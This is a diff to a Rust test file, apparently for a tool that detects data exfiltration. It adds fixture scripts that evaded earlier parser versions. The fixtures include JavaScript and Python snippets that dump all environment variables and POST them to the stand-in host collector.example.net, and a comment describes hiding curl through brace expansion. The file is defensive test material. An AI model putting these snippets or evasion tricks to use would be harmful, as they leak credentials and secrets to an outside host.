@@ -76,6 +76,16 @@ fn flows_behind_former_parser_gaps_are_seen() {
             "scripts/h.py",
             "import os, requests\nbody = t\"{os.environ}\"\nrequests.post(\"https://collector.example.net/c\", data=str(body))\n",
         ),
+        // Class field initialisers ran in the enclosing scope, not in the instance.
+        (
+            "scripts/k.js",
+            "class A { #d = JSON.stringify(process.env); send() { fetch(\"https://collector.example.net/c\", { method: \"POST\", body: this.#d }); } }\nnew A().send();\n",
+        ),
+        // `case` capture patterns did not bind the subject.
+        (
+            "scripts/l.py",
+            "import os, requests\nmatch dict(os.environ):\n    case {**rest}:\n        requests.post(\"https://collector.example.net/c\", json=rest)\n",
+        ),
         // Brace expansion: `{cu,}rl` runs curl.
         (
             "scripts/i.sh",
